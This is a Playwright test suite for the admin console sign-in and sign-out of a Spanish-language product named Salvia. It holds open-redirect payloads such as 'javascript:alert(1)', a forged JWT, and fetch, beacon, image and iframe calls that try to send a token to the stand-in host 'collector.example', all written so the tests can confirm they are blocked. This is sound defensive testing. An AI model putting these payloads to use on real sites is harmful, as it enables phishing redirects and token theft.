import type { Page } from '@playwright/test'
import { expect, signIn, test } from './console'
import { hostilePeople } from './hostilePeople'

test('a visitor signs in and lands on the page they asked for, filters included', async ({ page }) => {
  await page.goto('/admin/companies?status=active&page=1')
  await expect(page).toHaveURL(/\/admin\/login\?redirect=/)
  await expect(page).toHaveTitle('Salvia - Inicia sesión')
  await signIn(page, 'manager')
  await expect(page).toHaveURL(/\/admin\/companies\?status=active/)
  await expect(page.getByRole('heading', { level: 1, name: 'Empresas' })).toBeVisible()
  await expect(page).toHaveTitle('Salvia - Empresas')
})

test('a wrong password is said in an alert; the e-mail stays and nothing is stored', async ({
  page,
  watched,
}) => {
  watched.expectCalls(/auth\/login/)
  await page.goto('/admin/login')
  await signIn(page, 'viewer', 'no-es-la-clave')
  await expect(page.getByRole('alert')).toContainText('El correo o la contraseña no coinciden')
  await expect(page.getByLabel('Correo electrónico')).toHaveValue('viewer@salvia.test')
  await expect(page.getByLabel('Contraseña', { exact: true })).toHaveValue('')
  expect(await page.evaluate(() => localStorage.getItem('admin_jwt_token'))).toBeNull()
})

test('signing in leads to no other site, also where the address asks for one', { tag: '@long' }, async ({
  page,
  baseURL,
}) => {
  for (const redirect of [
    'https://evil.example',
    '//evil.example',
    '/\\evil.example',
    'javascript:alert(1)',
    '/admin/login',
    '/rl/x',
  ])
    await test.step(redirect, async () => {
      await page.goto(`/admin/login?redirect=${encodeURIComponent(redirect)}`)
      await signIn(page, 'viewer')
      await expect(page).toHaveURL(`${baseURL}/admin`)
      await page.evaluate(() => localStorage.clear())
    })
})

test('signing out clears the session and the admin keys of the tab, and nothing else', async ({ page }) => {
  await page.goto('/admin/login')
  await signIn(page, 'admin')
  await expect(page.getByRole('heading', { level: 1 })).toBeVisible()
  await page.evaluate(() => {
    sessionStorage.setItem('old-admin-draft', 'x')
    sessionStorage.setItem('visitor', 'stays')
    localStorage.setItem('unrelated', 'stays')
  })
  await page.getByRole('button', { name: /Administración/ }).click()
  await page.getByRole('menuitem', { name: 'Cerrar sesión' }).click()
  await expect(page).toHaveURL(/\/admin\/login$/)
  const left = await page.evaluate(() => ({
    token: localStorage.getItem('admin_jwt_token'),
    unrelated: localStorage.getItem('unrelated'),
    tab: Object.keys(sessionStorage).filter((key) => key.includes('admin')),
    visitor: sessionStorage.getItem('visitor'),
  }))
  expect(left).toEqual({ token: null, unrelated: 'stays', tab: [], visitor: 'stays' })
})

test('signing out in one tab takes the other one to the sign-in too', { tag: '@long' }, async ({
  context,
}) => {
  const [first, second] = [await context.newPage(), await context.newPage()]
  await first.goto('/admin/login')
  await signIn(first, 'viewer')
  await expect(first.getByRole('heading', { level: 1 })).toBeVisible()
  await second.goto('/admin/companies')
  await expect(second.getByRole('heading', { level: 1, name: 'Empresas' })).toBeVisible()

  // A tab behind another draws once a second.
  await first.bringToFront()
  await first.getByRole('button', { name: /Consulta/ }).click()
  await first.getByRole('menuitem', { name: 'Cerrar sesión' }).click()
  await expect(second).toHaveURL(/\/admin\/login\?redirect=%2Fadmin%2Fcompanies$/, { timeout: 1_000 })
  await expect(second.getByRole('heading', { name: 'Inicia sesión' })).toBeVisible()
})

test('a token the server does not know ends at the sign-in, with the way back', { tag: '@long' }, async ({
  page,
  watched,
}) => {
  watched.expectCalls(/401/)
  const claims = { sub: 'x', email: 'x@salvia.test', role: 'admin', exp: 4_102_444_800 }
  await page.addInitScript((payload) => {
    if (!sessionStorage.getItem('forged')) localStorage.setItem('admin_jwt_token', `e30.${btoa(payload)}.x`)
    sessionStorage.setItem('forged', 'once')
  }, JSON.stringify(claims))
  await page.goto('/admin/companies')
  await expect(page).toHaveURL(/\/admin\/login\?redirect=%2Fadmin%2Fcompanies/)
  expect(await page.evaluate(() => localStorage.getItem('admin_jwt_token'))).toBeNull()
})

test('starts with anything stored as the token', { tag: '@long' }, async ({ page }) => {
  await page.goto('/admin/login')
  for (const stored of ['', 'null', '{}', 'a.b.c', '"x"', '[]'])
    await test.step(JSON.stringify(stored), async () => {
      await page.evaluate((token) => localStorage.setItem('admin_jwt_token', token), stored)
      await page.goto('/admin/companies')
      await expect(page).toHaveURL(/\/admin\/login\?redirect=%2Fadmin%2Fcompanies/)
      await expect(page.getByRole('heading', { name: 'Inicia sesión' })).toBeVisible()
    })
})

test('starts and signs in where the browser allows no storage at all', async ({ page }) => {
  await page.addInitScript(() => {
    for (const name of ['localStorage', 'sessionStorage'])
      Object.defineProperty(window, name, {
        get() {
          throw new DOMException('denied', 'SecurityError')
        },
      })
  })
  await page.goto('/admin/login')
  await signIn(page, 'viewer')
  await expect(page.getByRole('navigation', { name: 'Principal' })).toBeVisible()
})

for (const [how, hours] of [
  ['a day behind', -24],
  ['two hours behind', -2],
  ['two hours ahead', 2],
  ['a day ahead', 24],
] as const)
  test(`a user whose computer is ${how} signs in and works`, {
    tag: Math.abs(hours) > 2 ? '@long' : [],
  }, async ({ page }) => {
    await page.clock.install({ time: Date.now() + hours * 3_600_000 })
    await page.goto('/admin/login?redirect=%2Fadmin%2Fcustomers')
    await signIn(page, 'viewer')
    await page.clock.runFor(1_000)
    await expect(page.getByRole('heading', { level: 1, name: 'Clientes' })).toBeVisible()
    await page.getByRole('main').locator('a[href^="/admin/customers/"]').first().click()
    await expect(page).toHaveURL(/customers\/[0-9a-f-]{36}/)
  })

test('nothing of the people on screen is left in the browser after signing out', async ({ page }) => {
  const { rows, marks } = hostilePeople(125)
  expect(new Set(marks).size).toBe(500)
  await page.route('**/api/v2/admin/persons?*', async (route) => {
    const reply = await route.fetch()
    const { data, meta } = await reply.json()
    const people = rows.map((row, index) => ({ ...data[index % data.length], ...row }))
    await route.fulfill({ response: reply, json: { data: people, meta } })
  })
  // A row that the pointer rests on is read ahead.
  await page.route('**/api/v2/admin/persons/*', async (route) => {
    const data = rows.find(({ uuid }) => route.request().url().endsWith(uuid))
    await route.fulfill({ json: { data } })
  })
  await page.goto('/admin/login?redirect=%2Fadmin%2Fpersons')
  await signIn(page, 'admin')
  await expect(page.getByRole('main').locator('a[href^="/admin/persons/"]').first()).toBeVisible()
  await expect.poll(() => left(page, marks)).toEqual(marks)

  await page.getByRole('navigation', { name: 'Principal' }).getByRole('link', { name: 'Empresas' }).click()
  await page.getByRole('link', { name: 'Crear empresa' }).click()
  await page.getByLabel('Nombre comercial').fill(rows[0]?.full_name ?? '')
  await expect.poll(() => left(page, marks)).toEqual(marks.slice(0, 1))

  await page.getByRole('button', { name: /Administración/ }).click()
  await page.getByRole('menuitem', { name: 'Cerrar sesión' }).click()
  await expect(page.getByRole('heading', { name: 'Inicia sesión' })).toBeVisible()
  expect(await left(page, marks)).toEqual([])
  await page.goBack()
  await expect(page.getByRole('heading', { name: 'Inicia sesión' })).toBeVisible()
  expect(await left(page, marks)).toEqual([])
})

/** Which of the given texts the document and the browser's storage still hold. */
async function left(page: Page, texts: string[]): Promise<string[]> {
  const everything = await page.evaluate(async () => {
    const stored = [...Object.entries(localStorage), ...Object.entries(sessionStorage)].flat()
    const databases = await indexedDB.databases()
    // The console keeps nothing in either: a name is already too much.
    if (databases.length > 0 || (await caches.keys()).length > 0) throw new Error('Something else is kept')
    return [document.documentElement.outerHTML, document.title, JSON.stringify(history.state), ...stored]
  })
  return texts.filter((text) => everything.some((kept) => kept.includes(text)))
}

test('a script that tells another host what it finds in the browser is stopped', async ({ browser }) => {
  const page = await browser.newPage()
  const heard: string[] = []
  await page.route('https://collector.example/**', (route) => {
    heard.push(route.request().url())
    return route.fulfill({ status: 204, headers: { 'Access-Control-Allow-Origin': '*' } })
  })
  await page.goto('/admin/login')
  const stopped: string[] = []
  await page.exposeFunction('reportViolation', (directive: string) => void stopped.push(directive))
  await page.evaluate(async () => {
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) =>
      window.reportViolation(effectiveDirective),
    )
    const address = 'https://collector.example/?token=x'
    const ways = [
      () => fetch(address),
      () => navigator.sendBeacon(address),
      () => new Promise((done) => Object.assign(new Image(), { src: address, onerror: done, onload: done })),
      () =>
        new Promise((done) => {
          const frame = document.createElement('iframe')
          frame.addEventListener('load', done)
          document.body.append(Object.assign(frame, { src: address }))
        }),
    ]
    for (const way of ways) await Promise.resolve(way()).catch(() => undefined)
  })
  await expect
    .poll(() => stopped.toSorted((one, other) => one.localeCompare(other)))
    .toEqual(['connect-src', 'connect-src', 'frame-src', 'img-src'])
  expect(heard).toEqual([])
  await page.close()
})

test('an unknown path says so in place, under the name of the product', async ({ page }) => {
  await page.goto('/no-existe/nada?x=1')
  await expect(page.getByRole('heading', { name: 'No encontramos esta página' })).toBeVisible()
  await expect(page).toHaveTitle('Salvia')
  await expect(page).toHaveURL(/no-existe/)
})

test('the document follows the width of the window across 620 px', async ({ page }) => {
  await page.goto('/admin/login')
  const root = page.locator('html')
  await expect(root).toHaveAttribute('lang', 'es')
  for (const [width, viewport] of [
    [619, 'mobile'],
    [620, 'desktop'],
    [375, 'mobile'],
  ] as const) {
    await page.setViewportSize({ width, height: 800 })
    await expect(root).toHaveAttribute('data-viewport', viewport)
  }
})
